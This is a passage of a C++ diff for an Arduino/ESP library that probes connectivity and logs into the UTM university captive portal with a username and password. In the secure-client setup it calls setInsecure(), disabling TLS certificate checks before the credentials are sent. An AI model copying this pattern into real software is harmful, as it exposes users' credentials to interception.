+    if (_state == PORTAL_IDLE) {
+      _nextCheckTime = millis();
+    }
+    return;
+  }
+
+  _lastOnlineTime = millis();
+  _onlineSinceLogin = _sessionActive;
+
+  // Recheck soon after an outage, then stretch towards _checkInterval
+  PORTAL_LOCK();
+  if (_outage) {
+    _currentInterval = _fastRecheckInterval;
+    _outage = false;
+  } else {
+    _currentInterval = (_currentInterval > _checkInterval / 2) ? _checkInterval : _currentInterval * 2;
+  }
+  PORTAL_UNLOCK();
+  _retryBackoff = MIN_BACKOFF_MS;
+  _scheduleCheck(_currentInterval);
+  _state = PORTAL_IDLE;
+}
+
+void ArduinoUTMWiFiPortal::_enterBackoff() {
+  // Equal jitter: wait between half and all of the current backoff
+  _stateDeadline = millis() + _retryBackoff / 2 + _random(_retryBackoff / 2 + 1);
+  _retryBackoff *= 2;
+  if (_retryBackoff > MAX_BACKOFF_MS) {
+    _retryBackoff = MAX_BACKOFF_MS;
+  }
+  _state = PORTAL_BACKOFF;
+}
+
+bool ArduinoUTMWiFiPortal::checkInternet() {
+  if (_foreignTask()) {
+    return isOnline();
+  }
+  if (_probeCacheFresh()) {
+    return _online;
+  }
+  bool online = _probe(HTTP_TIMEOUT_MS);
+  if (_state == PORTAL_IDLE) {
+    _onProbeResult(online);
+  }
+  return online;
+}
+
+void ArduinoUTMWiFiPortal::setProbeCacheTtl(unsigned long ttlMs) {
+  _probeCacheTtl = ttlMs;
+}
+
+bool ArduinoUTMWiFiPortal::isOnline() const {
+  return _online && WiFi.status() == WL_CONNECTED;
+}
+
+bool ArduinoUTMWiFiPortal::_probeCacheFresh() const {
+  return _onlineCached && millis() - _onlineCheckedAt < _probeCacheTtl;
+}
+
+void ArduinoUTMWiFiPortal::_invalidateProbeCache() {
+  _onlineCached = false;
+}
+
+void ArduinoUTMWiFiPortal::_cacheProbeResult(bool online) {
+  PORTAL_LOCK();
+  _setOnline(online);
+  _onlineCheckedAt = millis();
+  _onlineCached = true;
+  PORTAL_UNLOCK();
+}
+
+void ArduinoUTMWiFiPortal::_setOnline(bool online) {
+  if (online == _online) {
+    return;
+  }
+  if (!online) {
+    _metrics.outages++;
+    _offlineSince = millis();
+    _inOutage = true;
+  } else if (_inOutage) {
+    _metrics.offlineMs += millis() - _offlineSince;
+    _inOutage = false;
+  }
+  _online = online;
+}
+
+bool ArduinoUTMWiFiPortal::_resolve(const char* host, IPAddress& address) {
+  unsigned long startTime = millis();
+  bool resolved = (WiFi.hostByName(host, address) == 1 && (uint32_t)address != 0);
+  _metrics.dnsMs.record(millis() - startTime);
+  return resolved;
+}
+
+void ArduinoUTMWiFiPortal::_storeAddress(HostCache& entry, const IPAddress& address) {
+  entry.address = address;
+  entry.resolvedAt = millis();
+  entry.valid = true;
+}
+
+bool ArduinoUTMWiFiPortal::_hostFresh(const HostCache& entry) const {
+  return entry.valid && millis() - entry.resolvedAt < _dnsCacheTtl;
+}
+
+bool ArduinoUTMWiFiPortal::_lookup(HostCache& entry, IPAddress& address, bool& fallback) {
+  fallback = false;
+  if (_hostFresh(entry)) {
+    address = entry.address;
+    _metrics.dnsCacheHits++;
+    return true;
+  }
+  if (_resolve(entry.host, address)) {
+    _storeAddress(entry, address);
+    return true;
+  }
+
+  // DNS is often the first thing to fail while the session is down; an
+  // address that worked before is the better bet than giving up
+  if (entry.valid) {
+    address = entry.address;
+  } else if (&entry == &_portalHost && (uint32_t)_pinnedPortalAddress != 0) {
+    address = _pinnedPortalAddress;
+  } else {
+    return false;
+  }
+  Serial.printf("[PortalLib] DNS lookup of %s failed, using %s.\n", entry.host, address.toString().c_str());
+  _metrics.dnsFallbacks++;
+  fallback = true;
+  return true;
+}
+
+void ArduinoUTMWiFiPortal::_prewarmDns(HostCache& entry) {
+  IPAddress address;
+  if (_resolve(entry.host, address)) {
+    _storeAddress(entry, address);
+  }
+}
+
+void ArduinoUTMWiFiPortal::_resetTargetHosts() {
+  for (uint8_t i = 0; i < PortalProbeSet::MAX_TARGETS; i++) {
+    _targetHosts[i].host = _probeTargets.host(i);
+    _targetHosts[i].resolvedAt = 0;
+    _targetHosts[i].valid = false;
+  }
+  _targetLookups = 0;
+  _targetResolved = 0;
+}
+
+bool ArduinoUTMWiFiPortal::_lookupProbeTarget() {
+  for (uint8_t i = 0; i < _probeTargets.count(); i++) {
+    uint8_t bit = 1 << i;
+    if ((_targetLookups & bit) || _hostFresh(_targetHosts[i])) {
+      continue;
+    }
+    IPAddress address;
+    bool fallback;
+    if (_lookup(_targetHosts[i], address, fallback) && !fallback) {
+      _targetResolved |= bit;
+    }
+    _targetLookups |= bit;
+    return true;
+  }
+  return false;
+}
+
+void ArduinoUTMWiFiPortal::setDnsCacheTtl(unsigned long ttlMs) {
+  _dnsCacheTtl = ttlMs;
+}
+
+void ArduinoUTMWiFiPortal::setPortalAddress(IPAddress address) {
+  _pinnedPortalAddress = address;
+}
+
+bool ArduinoUTMWiFiPortal::attemptLogin() {
+  if (_foreignTask()) {
+    Serial.println("[PortalLib] Login is handled by the portal task.");
+    return false;
+  }
+  return _login(HTTP_TIMEOUT_MS);
+}
+
+bool ArduinoUTMWiFiPortal::_probe(uint16_t timeoutMs) {
+  // Test and set in one critical section, so two tasks cannot both probe
+  PORTAL_LOCK();
+  bool busy = _probeInFlight;
+  _probeInFlight = true;
+  PORTAL_UNLOCK();
+  if (busy) {
+    // Another task is already probing: wait for its answer, but no longer
+    // than this probe could have taken. Still waiting is no verdict.
+    unsigned long waitStart = millis();
+    while (_probeInFlight && millis() - waitStart < timeoutMs) {
+      delay(1);
+    }
+    _probeCutShort = _probeInFlight;
+    return isOnline();
+  }
+  Serial.println("[PortalLib] Checking internet connection...");
+
+  unsigned long startTime = millis();
+  bool isConnected = false;
+  _redirect.clear();
+  _probeIntercepted = false;
+  switch (_probeMode) {
+    case PROBE_RAW_HTTP: isConnected = _probeRawHttp(timeoutMs); break;
+    case PROBE_TCP:      isConnected = _probeTcp(timeoutMs); break;
+    case PROBE_DNS:      isConnected = _probeDns(); break;
+    case PROBE_MULTI:    isConnected = _probeMulti(timeoutMs); break;
+    default:             isConnected = _probeHttp(timeoutMs); break;
+  }
+  _probeLatencyMs[_probeMode] = millis() - startTime;
+
+  // The controller's redirect names the AP and client as it sees them;
+  // rebuild the login body from it
+  if (_redirect.valid()) {
+    Serial.println("[PortalLib] Portal redirect detected.");
+    _templateValid = false;
+  }
+
+  if (isConnected) {
+    Serial.printf("[PortalLib] Internet connection OK (%lu ms).\n", _probeLatencyMs[_probeMode]);
+  }
+  _metrics.probes++;
+  _metrics.probeMs.record(_probeLatencyMs[_probeMode]);
+
+  // A probe that ran out of a timeout shortened by the step budget says
+  // nothing about the portal: keep the previous verdict and let the next
+  // step retry, at most MAX_CUT_SHORT_PROBES times in a row. Failures that
+  // come back sooner (refused, unresolved, a portal page) are a verdict,
+  // and so is a DNS probe, which the budget does not bound.
+  _probeCutShort = !isConnected && _probeMode != PROBE_DNS && timeoutMs < HTTP_TIMEOUT_MS
+                   && millis() - startTime >= timeoutMs && !_redirect.valid()
+                   && _cutShortProbes < MAX_CUT_SHORT_PROBES;
+  if (_probeCutShort) {
+    Serial.printf("[PortalLib] Internet check cut short after %u ms, no verdict.\n", (unsigned)timeoutMs);
+    _cutShortProbes++;
+    _probeInFlight = false;
+    return false;
+  }
+  _cutShortProbes = 0;
+
+  if (!isConnected) {
+    _metrics.probeFailures++;
+  }
+  _cacheProbeResult(isConnected);
+  _probeInFlight = false;
+  return isConnected;
+}
+
+bool ArduinoUTMWiFiPortal::_probeHttp(uint16_t timeoutMs) {
+  HTTPClient httpCheck;
+  bool isConnected = false;
+
+  // HTTPClient resolves by name itself (it cannot keep the Host header
+  // when given an address); a dead resolver fails fast here, and a fresh
+  // lookup also warms the lwIP cache HTTPClient asks next
+  IPAddress address;
+  bool fallback;
+  if (!_lookup(_probeHost, address, fallback) || fallback) {
+    Serial.println("[PortalLib] Internet check failed, DNS lookup failed.");
+    return false;
+  }
+
+  if (httpCheck.begin(_standardClient, _connectionCheckUrl)) {
+    httpCheck.setTimeout(timeoutMs);
+    #if defined(ESP32)
+      httpCheck.setConnectTimeout(timeoutMs);
+    #endif
+    static const char* collected[] = { "Location" };
+    httpCheck.collectHeaders(collected, 1);
+
+    int httpCode = httpCheck.GET();
+
+    if (httpCode == HTTP_CODE_NO_CONTENT || httpCode == HTTP_CODE_OK) {
+      isConnected = true;
+    } else {
+      if (httpCode >= 300 && httpCode < 400) {
+        _redirect.parse(httpCheck.header("Location").c_str());
+      }
+      _probeIntercepted = (httpCode > 0);
+      Serial.printf("[PortalLib] Internet check failed, HTTP code: %d.\n", httpCode);
+      isConnected = false;
+    }
+    httpCheck.end();
+  } else {
+    Serial.println("[PortalLib] Failed to begin HTTP for check.");
+    isConnected = false;
+  }
+
+  return isConnected;
+}
+
+bool ArduinoUTMWiFiPortal::_connectProbe(uint16_t port, uint16_t timeoutMs) {
+  // Plain TCP: the Host header carries the name, connect by address
+  IPAddress address;
+  bool fallback;
+  if (!_lookup(_probeHost, address, fallback)) {
+    return false;
+  }
+  setClientTimeout(_standardClient, timeoutMs);
+  #if defined(ESP32)
+    return _standardClient.connect(address, port, timeoutMs);
+  #else
+    return _standardClient.connect(address, port);
+  #endif
+}
+
+bool ArduinoUTMWiFiPortal::_probeRawHttp(uint16_t timeoutMs) {
+  if (!_connectProbe(80, timeoutMs)) {
+    Serial.println("[PortalLib] Internet check failed, no connection.");
+    _standardClient.stop();
+    return false;
+  }
+
+  char line[96];
+  PortalBuffer request(line, sizeof(line));
+  request.appendP(PROBE_REQUEST);
+  _metrics.bytesSent += _standardClient.write((const uint8_t*)request.c_str(), request.length());
+
+  size_t len = _standardClient.readBytesUntil('\n', line, sizeof(line) - 1);
+  line[len] = '\0';
+  _metrics.bytesReceived += len;
+
+  // "HTTP/1.0 204 No Content"; portal login pages come back as 200 or 302
+  int httpCode = (len >= 12 && strncmp(line, "HTTP/1.", 7) == 0) ? atoi(line + 9) : -1;
+  if (httpCode >= 300 && httpCode < 400) {
+    _readRedirect(_standardClient);
+  }
+  _standardClient.stop();
+
+  if (httpCode != HTTP_CODE_NO_CONTENT) {
+    _probeIntercepted = (httpCode > 0);
+    Serial.printf("[PortalLib] Internet check failed, HTTP code: %d.\n", httpCode);
+    return false;
+  }
+  return true;
+}
+
+void ArduinoUTMWiFiPortal::_readRedirect(Client& client) {
+  // Walk the header block one character at a time; only the Location
+  // value is kept, streamed straight into the redirect parser
+  while (true) {
+    char name[16];
+    size_t nameLength = 0;
+    char c = '\n'; // a timeout before the first character ends the headers
+    while (client.readBytes(&c, 1) == 1 && c != ':' && c != '\n') {
+      if (nameLength < sizeof(name) - 1) {
+        name[nameLength++] = c;
+      }
+    }
+    name[nameLength] = '\0';
+    if (c != ':') {
+      // Blank line (end of headers) or timeout
+      return;
+    }
+
+    bool isLocation = (strcasecmp(name, "Location") == 0);
+    bool leading = true;
+    while (client.readBytes(&c, 1) == 1 && c != '\n') {
+      if (!isLocation || c == '\r' || (leading && c == ' ')) {
+        continue;
+      }
+      leading = false;
+      _redirect.feed(c);
+    }
+    if (isLocation) {
+      _redirect.finish();
+      return;
+    }
+    if (c != '\n') {
+      return;
+    }
+  }
+}
+
+bool ArduinoUTMWiFiPortal::_probeTcp(uint16_t timeoutMs) {
+  // Port 443: the portal intercepts port 80 before login, so a plain HTTP
+  // connect would succeed either way
+  bool isConnected = _connectProbe(443, timeoutMs);
+  _standardClient.stop();
+  if (!isConnected) {
+    Serial.println("[PortalLib] Internet check failed, no connection.");
+  }
+  return isConnected;
+}
+
+bool ArduinoUTMWiFiPortal::_probeMulti(uint16_t timeoutMs) {
+  // Addresses from the host cache. Targets keepConnected() looked up in
+  // the steps before use that answer; a blocking caller looks up stale
+  // ones here while the timeout lasts. A failed lookup (or only a stale
+  // address) leaves the target out of this run.
+  unsigned long startTime = millis();
+  for (uint8_t i = 0; i < _probeTargets.count(); i++) {
+    HostCache& entry = _targetHosts[i];
+    uint8_t bit = 1 << i;
+    IPAddress address;
+    bool fallback;
+    if (_targetResolved & bit) {
+      address = entry.address;
+    } else if ((_targetLookups & bit) || (!_hostFresh(entry) && millis() - startTime >= timeoutMs) ||
+               !_lookup(entry, address, fallback) || fallback) {
+      address = IPAddress();
+    }
+    _probeTargets.setAddress(i, address);
+  }
+  _targetLookups = 0;
+  _targetResolved = 0;
+
+  unsigned long elapsed = millis() - startTime;
+  bool isConnected = _probeTargets.run(elapsed < timeoutMs ? timeoutMs - elapsed : 1, _probeQuorum, _redirect);
+  _probeIntercepted = _probeTargets.intercepted();
+  return isConnected;
+}
+
+bool ArduinoUTMWiFiPortal::_probeDns() {
+  // Always a real lookup: testing DNS is the point of this mode
+  IPAddress address;
+  if (!_resolve(_probeHost.host, address)) {
+    Serial.println("[PortalLib] Internet check failed, DNS lookup failed.");
+    return false;
+  }
+  _storeAddress(_probeHost, address);
+  return true;
+}
+
+void ArduinoUTMWiFiPortal::_currentSSID(char* ssid, size_t capacity) {
+  ssid[0] = '\0';
+  #if defined(ESP32)
+    wifi_ap_record_t apInfo;
+    if (esp_wifi_sta_get_ap_info(&apInfo) == ESP_OK) {
+      strncpy(ssid, (const char*)apInfo.ssid, capacity - 1);
+      ssid[capacity - 1] = '\0';
+    }
+  #elif defined(ESP8266)
+    struct station_config config;
+    if (wifi_station_get_config(&config)) {
+      size_t len = strnlen((const char*)config.ssid, sizeof(config.ssid));
+      if (len > capacity - 1) len = capacity - 1;
+      memcpy(ssid, config.ssid, len);
+      ssid[len] = '\0';
+    }
+  #else
+    strncpy(ssid, WiFi.SSID().c_str(), capacity - 1);
+    ssid[capacity - 1] = '\0';
+  #endif
+}
+
+bool ArduinoUTMWiFiPortal::_buildLoginBody() {
+  // Static part: credentials and client MAC never change
+  if (_postPrefixLength == 0) {
+    uint8_t clientMAC[6];
+    WiFi.macAddress(clientMAC);
+
+    PortalBuffer form(_postBody, sizeof(_postBody));
+    form.append("username=").appendEncoded(_username.c_str());
+    form.append("&password=").appendEncoded(_password.c_str());
+    form.append("&client_mac=").appendMac(clientMAC);
+    if (form.overflowed()) {
+      return false;
+    }
+    _postPrefixLength = form.length();
+    _templateValid = false;
+  }
+
+  // Dynamic part: only rewritten when the association (AP or IP) changes
+  // or the probe brought a fresh portal redirect
+  const uint8_t* apMAC = WiFi.BSSID();
+  IPAddress localIP = WiFi.localIP();
+  if (_templateValid && apMAC != NULL && (uint32_t)localIP == _templateIP &&
+      memcmp(apMAC, _templateBSSID, sizeof(_templateBSSID)) == 0) {
+    return true;
+  }
+
+  char ssid[33];
+  _currentSSID(ssid, sizeof(ssid));
+
+  // Prefer what the controller told us in its redirect
+  bool fromRedirect = _redirect.valid();
+  PortalBuffer form(_postBody, sizeof(_postBody), _postPrefixLength);
+  form.append("&sip=").append(fromRedirect ? _redirect.sip() : "utm-vsz-new.utm.my");
+  form.append("&dn=").append(fromRedirect && _redirect.dn()[0] != '\0' ? _redirect.dn() : "utm-vsz-new.utm.my");
+  form.append("&url=").append(fromRedirect && _redirect.url()[0] != '\0' ? _redirect.url() : "http%3A%2F%2Fwww.msftconnecttest.com%2Fredirect");
+  form.append("&mac=");
+  if (fromRedirect && _redirect.hasApMac()) {
+    form.appendMac(_redirect.apMac());
+  } else if (apMAC != NULL) {
+    form.appendMac(apMAC);
+  }
+  form.append("&uip=").appendIP(fromRedirect && _redirect.hasClientIP() ? _redirect.clientIP() : localIP);
+  form.append("&ssid=").appendEncoded(ssid); // Use current SSID
+  if (form.overflowed()) {
+    _templateValid = false;
+    return false;
+  }
+
+  _postBodyLength = form.length();
+  _templateIP = (uint32_t)localIP;
+  _templateValid = (apMAC != NULL); // Unknown AP, rebuild on the next attempt
+  if (_templateValid) {
+    memcpy(_templateBSSID, apMAC, sizeof(_templateBSSID));
+  }
+  return true;
+}
+
+size_t ArduinoUTMWiFiPortal::_sendLoginRequest() {
+  const char* const* headers = (_headerProfile == HEADERS_MINIMAL) ? MINIMAL_HEADERS : BROWSER_HEADERS;
+  size_t headerCount = (_headerProfile == HEADERS_MINIMAL)
+    ? sizeof(MINIMAL_HEADERS) / sizeof(MINIMAL_HEADERS[0])
+    : sizeof(BROWSER_HEADERS) / sizeof(BROWSER_HEADERS[0]);
+
+  // Coalesce the head into as few socket writes (TLS records) as possible
+  char chunk[256];
+  PortalBuffer head(chunk, sizeof(chunk));
+  size_t bytesSent = 0;
+
+  head.appendP(LOGIN_REQUEST_LINE);
+  for (size_t i = 0; i < headerCount; i++) {
+    const char* line = (const char*)pgm_read_ptr(&headers[i]);
+    if (head.length() + strlen_P(line) >= head.capacity()) {
+      bytesSent += _secureClient->write((const uint8_t*)head.c_str(), head.length());
+      head.clear();
+    }
+    head.appendP(line);
+  }
+  if (head.length() + 40 >= head.capacity()) {
+    bytesSent += _secureClient->write((const uint8_t*)head.c_str(), head.length());
+    head.clear();
+  }
+  head.append("Content-Length: ").appendNumber(_postBodyLength).append("\r\n\r\n");
+  bytesSent += _secureClient->write((const uint8_t*)head.c_str(), head.length());
+  bytesSent += _secureClient->write((const uint8_t*)_postBody, _postBodyLength);
+  return bytesSent;
+}
+
+uint32_t ArduinoUTMWiFiPortal::_freeHeap() {
+  #if defined(ESP32) || defined(ESP8266)
+    return ESP.getFreeHeap();
+  #else
+    return 0;
+  #endif
+}
+
+void ArduinoUTMWiFiPortal::_sampleHeap() {
+  uint32_t freeHeap = _freeHeap();
+  if (freeHeap < _loginHeapLow) {
+    _loginHeapLow = freeHeap;
+  }
+}
+
+bool ArduinoUTMWiFiPortal::_acquireSecureClient() {
+  if (_secureClient != NULL) {
+    return true;
+  }
+  _secureClient = new (std::nothrow) WiFiClientSecure();
+  if (_secureClient == NULL) {
+    return false;
+  }
+
+  // Platform-specific SSL configuration
+  #if defined(ESP32)
+    _secureClient->setInsecure(); // IMPORTANT for UTM portal
+  #elif defined(ESP8266)
+    _secureClient->setInsecure(); // IMPORTANT for UTM portal (ESP8266 BearSSL)
+    _secureClient->setSession(&_tlsSession); // Resume TLS sessions across logins
+
+    // Smaller buffers when the portal supports Max Fragment Length, see
+    // _negotiateTlsBuffers()
+    if (_tlsRxBufferSize > 0) {
+      _secureClient->setBufferSizes(_tlsRxBufferSize, _tlsTxBufferSize);
+    }
+  #endif
+  return true;
+}
+
+bool ArduinoUTMWiFiPortal::_tlsNegotiationPending() const {
+  #if defined(ESP8266)
+    return !_tlsBuffersNegotiated && _mflnStep <= MFLN_PROBE_COUNT;
+  #else
+    return false; // ESP32's mbedTLS buffers are fixed at build time
+  #endif
+}
+
+void ArduinoUTMWiFiPortal::_negotiateTlsBuffers(uint16_t timeoutMs) {
+  // Shrink the 16 KB default receive buffer when the portal supports Max
+  // Fragment Length. One connection per call, so keepConnected() spreads
+  // them over its steps: first whether the portal answers at all (every
+  // MFLN probe fails while it is unreachable), then the sizes, smallest
+  // first. The reachability check is bounded by timeoutMs; a size probe
+  // uses the core's own timeout, but only runs once the portal answered.
+  // The result is remembered; an unreachable portal is probed again on
+  // the next login.
+  #if defined(ESP8266)
+    static const uint16_t MFLN_SIZES[MFLN_PROBE_COUNT] = { 512, 1024, 2048, 4096 };
+    IPAddress address;
+    bool fallback;
+    bool reachable = _lookup(_portalHost, address, fallback);
+    if (reachable && _mflnStep == 0) {
+      WiFiClient reach;
+      reach.setTimeout(timeoutMs);
+      reachable = reach.connect(address, LOGIN_PORT);
+      reach.stop();
+    }
+    if (!reachable) {
+      Serial.println("[PortalLib] Portal unreachable, MFLN probed again next login.");
+      _mflnStep = MFLN_PROBE_COUNT + 1;
+      return;
+    }
+    if (_mflnStep > 0 && WiFiClientSecure::probeMaxFragmentLength(address, LOGIN_PORT, MFLN_SIZES[_mflnStep - 1])) {
+      _tlsRxBufferSize = MFLN_SIZES[_mflnStep - 1];
+      _tlsTxBufferSize = 512;
+      _tlsBuffersNegotiated = true;
+      Serial.printf("[PortalLib] Portal supports MFLN, TLS buffers %d/%d bytes.\n", _tlsRxBufferSize, _tlsTxBufferSize);
+      return;
+    }
+    if (++_mflnStep > MFLN_PROBE_COUNT) {
+      Serial.println("[PortalLib] Portal does not support MFLN, using default TLS buffers.");
+      _tlsRxBufferSize = 0;
+      _tlsBuffersNegotiated = true;
+    }
+  #else
+    (void)timeoutMs;
+  #endif
+}
+
+void ArduinoUTMWiFiPortal::_releaseSecureClient() {
+  if (_secureClient != NULL) {
+    _secureClient->stop();
+    delete _secureClient;
+    _secureClient = NULL;
+  }
+}
+
+bool ArduinoUTMWiFiPortal::_connectLogin() {
+  #if defined(ESP8266)
+    // The server echoes our session ID when it accepts the resumption
+    br_ssl_session_parameters* params = _tlsSession.getSession();
+    uint8_t previousId[32];
+    size_t previousLen = params->session_id_len;
+    memcpy(previousId, params->session_id, previousLen);
+  #endif
+
+  IPAddress address;
+  bool fallback;
+  if (!_lookup(_portalHost, address, fallback)) {
+    return false;
+  }
+  unsigned long startTime = millis();
+  #if defined(ESP32)
+    // By address, with the name for SNI: no lookup in the handshake path
+    bool connected = _secureClient->connect(address, LOGIN_PORT, LOGIN_HOST, NULL, NULL, NULL);
+  #else
+    // BearSSL only sends SNI when connecting by name; use the address (and
+    // go without SNI) only when DNS is failing
+    bool connected = fallback ? _secureClient->connect(address, LOGIN_PORT)
+                              : _secureClient->connect(LOGIN_HOST, LOGIN_PORT);
+  #endif
+  if (!connected) {
+    return false;
+  }
+  _loginHandshakeMs = millis() - startTime;
+  _metrics.tlsMs.record(_loginHandshakeMs);
+
+  #if defined(ESP8266)
+    if (previousLen > 0 && params->session_id_len == previousLen &&
+        memcmp(params->session_id, previousId, previousLen) == 0) {
+      _metrics.resumedHandshakes++;
+      return true;
+    }
+  #endif
+  _metrics.fullHandshakes++;
+  return true;
+}
+
+int ArduinoUTMWiFiPortal::_readResponse(bool& keepAlive) {
+  _classifier.reset();
+  char line[128];
+  size_t len = _secureClient->readBytesUntil('\n', line, sizeof(line) - 1);
+  line[len] = '\0';
+  _metrics.bytesReceived += len;
+
+  // "HTTP/1.1 302 Found"
+  keepAlive = false;
+  if (len < 12 || strncmp(line, "HTTP/1.", 7) != 0) {
+    return -1;
+  }
+  int status = atoi(line + 9);
+  keepAlive = (line[7] == '1');
+  long contentLength = -1;
+  bool chunked = false;
+
+  // Headers, up to the blank line. Lines longer than the buffer arrive in
+  // pieces; only a Location value is followed across pieces.
+  bool inLocation = false;
+  while (true) {
+    len = _secureClient->readBytesUntil('\n', line, sizeof(line) - 1);
+    _metrics.bytesReceived += len;
+    bool partial = (len == sizeof(line) - 1);
+    if (len == 0) {
+      // Timed out (every header line ends in "\r\n")
+      keepAlive = false;
+      return status;
+    }
+    line[len] = '\0';
+    if (line[len - 1] == '\r') {
+      line[--len] = '\0';
+    }
+    if (inLocation) {
+      _classifier.feed(line, len);
+      inLocation = partial;
+      continue;
+    }
+    if (len == 0) {
+      break;
+    }
+    if (strncasecmp(line, "Location:", 9) == 0) {
+      _classifier.feed(line + 9, len - 9);
+      inLocation = partial;
+    } else if (strncasecmp(line, "Content-Length:", 15) == 0) {
+      contentLength = atol(line + 15);
+    } else if (strncasecmp(line, "Connection:", 11) == 0) {
+      const char* value = line + 11;
+      while (*value == ' ') value++;
+      if (strncasecmp(value, "close", 5) == 0) keepAlive = false;
+    } else if (strncasecmp(line, "Transfer-Encoding:", 18) == 0) {
+      // Not worth decoding chunks just to keep the socket
+      chunked = true;
+      keepAlive = false;
+    }
+  }
+
+  // Scan the body for the portal's markers, draining it so the connection
+  // can carry the next request. Without a length, stop at the scan limit,
+  // at the end of a chunked body or once the verdict cannot change.
+  size_t scanned = 0;
+  const char* chunkEnd = "0\r\n\r\n";
+  size_t chunkEndMatched = 0;
+  while (contentLength != 0) {
+    bool scanDone = (scanned >= MAX_RESPONSE_SCAN || _classifier.decided());
+    if (scanDone && (!keepAlive || contentLength < 0)) {
+      break;
+    }
+    if (contentLength < 0 && !_secureClient->available() && !_secureClient->connected()) {
+      break; // closed by the server: end of body
+    }
+    size_t want = sizeof(line);
+    if (contentLength > 0 && contentLength < (long)want) {
+      want = (size_t)contentLength;
+    }
+    size_t got = _secureClient->readBytes(line, want);
+    _metrics.bytesReceived += got;
+    if (got == 0) {
+      keepAlive = false;
+      break;
+    }
+    if (scanned < MAX_RESPONSE_SCAN) {
+      _classifier.feed(line, got);
+    }
+    scanned += got;
+    if (contentLength > 0) {
+      contentLength -= got;
+    } else if (chunked) {
+      for (size_t i = 0; i < got && chunkEndMatched < 5; i++) {
+        chunkEndMatched = (line[i] == chunkEnd[chunkEndMatched]) ? chunkEndMatched + 1 : (line[i] == '0' ? 1 : 0);
+      }
+      if (chunkEndMatched == 5) {
+        break;
+      }
+    }
+  }
+  if (contentLength > 0) {
+    keepAlive = false;
+  }
+  return status;
+}
+
+ArduinoUTMWiFiPortal::LoginResult ArduinoUTMWiFiPortal::_classifyLogin(int httpCode) const {
+  switch (_classifier.verdict()) {
+    case PortalClassifier::VERDICT_BAD_CREDENTIALS:   return LOGIN_BAD_CREDENTIALS;
+    case PortalClassifier::VERDICT_QUOTA_EXCEEDED:    return LOGIN_QUOTA_EXCEEDED;
+    case PortalClassifier::VERDICT_ALREADY_LOGGED_IN: return LOGIN_ALREADY_LOGGED_IN;
+    case PortalClassifier::VERDICT_SUCCESS:           return LOGIN_OK;
+    default: break;
+  }
+  if (httpCode >= 200 && httpCode < 400) {
+    // Accepted, but the page said nothing we recognise; the probe decides
+    return LOGIN_UNCONFIRMED;
+  }
+  return LOGIN_SERVER_ERROR;
+}
+
+bool ArduinoUTMWiFiPortal::_login(uint16_t timeoutMs) {
+  // Blocking anyway: the TLS buffer probes share the login's timeout
+  unsigned long startTime = millis();
+  while (_tlsNegotiationPending() && millis() - startTime < timeoutMs) {
+    _negotiateTlsBuffers(timeoutMs - (millis() - startTime));
+  }
+  return _recordLogin(_beginLogin(timeoutMs) && _finishLogin(true));
+}
+
+bool ArduinoUTMWiFiPortal::_recordLogin(bool loginSuccess) {
+  _metrics.loginAttempts++;
+  _metrics.loginResults[_lastLoginResult]++;
+  if (_loginCallback) {
+    _loginCallback(_lastLoginResult);
+  }
+  return loginSuccess;
+}
+
+bool ArduinoUTMWiFiPortal::_beginLogin(uint16_t timeoutMs) {
+  _lastLoginResult = LOGIN_SERVER_ERROR;
+
+  if (WiFi.status() != WL_CONNECTED) {
+    Serial.println("[PortalLib] WiFi disconnected. Cannot login.");
+    _lastLoginResult = LOGIN_NO_WIFI;
+    _holdRenewal();
+    return false;
+  }
+
+  Serial.println("[PortalLib] Attempting captive portal login...");
+  _invalidateProbeCache(); // connectivity is about to change
+
+  if (!_buildLoginBody()) {
+    Serial.println("[PortalLib] Login request too large, credentials not sent.");
+    _holdRenewal();
+    return false;
+  }
+
+  _loginHeapLow = _freeHeap();
+  _loginHeapStart = _loginHeapLow;
+  if (!_acquireSecureClient()) {
+    Serial.println("[PortalLib] Not enough memory for the login client.");
+    _holdRenewal();
+    return false;
+  }
+
+  setClientTimeout(*_secureClient, timeoutMs);
+  _loginStartTime = millis();
+  _mflnStep = 0; // not negotiated yet: probed again before the next login
+
+  // Reuse the socket kept open by a previous failed attempt. If the server
+  // has dropped it meanwhile, a blocking login reconnects once and resends
+  // in _finishLogin(); keepConnected() goes back to PORTAL_LOGGING_IN.
+  _loginReused = _secureClient->connected();
+  _loginHandshakeMs = 0;
+  if (!_loginReused && !_connectLogin()) {
+    Serial.println("[PortalLib] Could not connect for login.");
+    _holdRenewal();
+    _releaseSecureClient();
+    return false;
+  }
+  _sampleHeap();
+  _loginRequestStart = millis();
+  _loginBytesSent = _sendLoginRequest();
+  return true;
+}
+
+bool ArduinoUTMWiFiPortal::_loginResponseReady() const {
+  return _secureClient == NULL || _secureClient->available() > 0 || !_secureClient->connected();
+}
+
+bool ArduinoUTMWiFiPortal::_loginDropped() const {
+  return _loginReused && _secureClient != NULL && _secureClient->available() == 0 && !_secureClient->connected();
+}
+
+void ArduinoUTMWiFiPortal::_abortLogin() {
+  Serial.println("[PortalLib] Login failed, no response before the deadline.");
+  _releaseSecureClient();
+  _lastLoginResult = LOGIN_SERVER_ERROR;
+  _lastLoginAttempt = millis();
+  _holdRenewal();
+  _failedAttempts++;
+}
+
+bool ArduinoUTMWiFiPortal::_finishLogin(bool reconnect) {
+  bool keepAlive = false;
+  int httpCode = _readResponse(keepAlive);
+  bool connected = true;
+  if (httpCode < 0 && _loginReused && reconnect) {
+    _secureClient->stop();
+    _loginReused = false;
+    connected = _connectLogin();
+    _loginRequestStart = millis();
+    if (connected) {
+      _sampleHeap();
+      _loginBytesSent = _sendLoginRequest();
+      httpCode = _readResponse(keepAlive);
+    }
+  }
+  _sampleHeap();
+
+  if (!connected) {
+    Serial.println("[PortalLib] Could not connect for login.");
+    _holdRenewal();
+    _releaseSecureClient();
+    _lastLoginResult = LOGIN_SERVER_ERROR;
+    _loginRequestMs = 0;
+    return false;
+  }
+
+  _loginRequestMs = millis() - _loginRequestStart;
+  _metrics.postMs.record(_loginRequestMs);
+  _metrics.bytesSent += _loginBytesSent;
+  if (_loginReused) {
+    _metrics.reusedConnections++;
+  }
+  _lastLoginAttempt = millis();
+  Serial.printf("[PortalLib] Login request: %u bytes, %lu ms.\n", (unsigned)_loginBytesSent, _lastLoginAttempt - _loginStartTime);
+  Serial.printf("[PortalLib] Login heap: %u free before, %u at low point.\n", (unsigned)_loginHeapStart, (unsigned)_loginHeapLow);
+
+  _lastLoginResult = _classifyLogin(httpCode);
+  if (httpCode > 0) {
+    Serial.printf("[PortalLib] Login POST code: %d\n", httpCode);
+  } else {
+    Serial.println("[PortalLib] Login POST failed, no valid response.");
+  }
+
+  switch (_lastLoginResult) {
